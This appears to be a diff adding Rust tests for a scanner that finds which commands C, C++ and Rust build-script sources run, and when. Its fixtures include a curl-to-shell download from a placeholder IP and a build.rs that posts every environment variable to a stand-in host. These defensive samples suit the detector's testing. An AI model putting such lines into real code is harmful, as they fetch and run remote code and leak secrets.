@@ -1,0 +1,78 @@
+//! What is read of small sources, and what runs it.
+
+use super::*;
+
+/// What runs each call, its name and its command or code.
+fn shown(path: &str, text: &str) -> Vec<String> {
+    let parts = read_program_source(path, text).unwrap_or_default();
+    let show = |part: &ProgramPart, operation: &Operation| {
+        let first = operation.arguments.first().map_or("", |(_, text)| text.as_str());
+        format!("{:?} {} {first}", part.run_by, operation.name)
+    };
+    parts.iter().flat_map(|part| part.operations.iter().map(move |o| show(part, o))).collect()
+}
+
+#[test]
+fn what_a_constructor_starts_is_run_by_loading() {
+    let source = r#"
+        static int helper(void) { return system("id"); }
+        __attribute__((constructor)) static void set_up(void) { if (1) helper(); }
+        static PyObject *called(PyObject *s, PyObject *a) { return PyLong_FromLong(system("date")); }
+        static PyMethodDef methods[] = {{"called", called, 1, ""}, {NULL}};
+        PyMODINIT_FUNC PyInit_demo(void) { return PyModule_Create(&mod); }
+    "#;
+    let shown = shown("src/a.c", source);
+    assert!(shown.iter().any(|s| s == "Load c:system id"), "{shown:?}");
+    assert!(shown.iter().any(|s| s == "Caller c:system date"), "{shown:?}");
+}
+
+#[test]
+fn texts_are_put_together_of_what_the_source_names() {
+    let source = r#"
+        #define HOST "203.0.113.9"
+        static const char *words[] = {"/bin/sh", "-c", "echo hello", NULL};
+        void f(void) {
+            char line[256];
+            snprintf(line, sizeof line, "curl -s http://%s/%d | sh", HOST, getpid());
+            popen(line, "r");
+            execv("/bin/sh", words);
+            obj.system("not this");
+        }
+    "#;
+    let shown = shown("a.cpp", source);
+    assert!(shown.iter().any(|s| s.starts_with("Caller c:popen curl -s http://203.0.113.9/")), "{shown:?}");
+    assert!(shown.iter().any(|s| s.starts_with("Caller sh:curl")), "{shown:?}");
+    assert!(shown.iter().any(|s| s == "Caller c:execv /bin/sh -c 'echo hello'"), "{shown:?}");
+    assert!(!shown.iter().any(|s| s.contains("not this")), "{shown:?}");
+}
+
+#[test]
+fn the_environment_flows_through_names_into_a_command_of_a_build_script() {
+    let source = r#"
+        use std::{env, process::Command};
+        fn main() {
+            let mut report = String::new();
+            for (k, v) in env::vars() { report.push_str(&format!("{k}={v}\n")); }
+            let mut tool = Command::new("curl");
+            tool.arg("-d").arg(&report);
+            tool.arg("https://collect.invalid/b").spawn();
+        }
+    "#;
+    let parts = read_program_source("build.rs", source).unwrap();
+    let [part] = parts.as_slice() else { panic!("{parts:?}") };
+    assert_eq!(part.run_by, RunBy::Build);
+    let sent = part.operations.iter().find(|o| o.name == "sh:curl").unwrap();
+    let first = part.operations.first().unwrap();
+    assert_eq!((first.name.as_str(), sent.inputs.contains(&0)), ("rs:env::vars", true), "{parts:?}");
+}
+
+#[test]
+fn other_members_and_sources_that_start_nothing_are_left_out() {
+    assert!(read_program_source("a.py", "system('x')").is_none());
+    assert!(!is_program_source("a.c", b"int main(void) { return 0; }"));
+    assert!(!is_program_source("a.rs", b"fn main() {}"));
+    for text in ["", "system(", "f() { system(\"a\" }", "{{{{", "#define", "popen(\"", "Command::new("] {
+        let _ = read_program_source("a.c", text);
+        let _ = read_program_source("build.rs", text);
+    }
+}
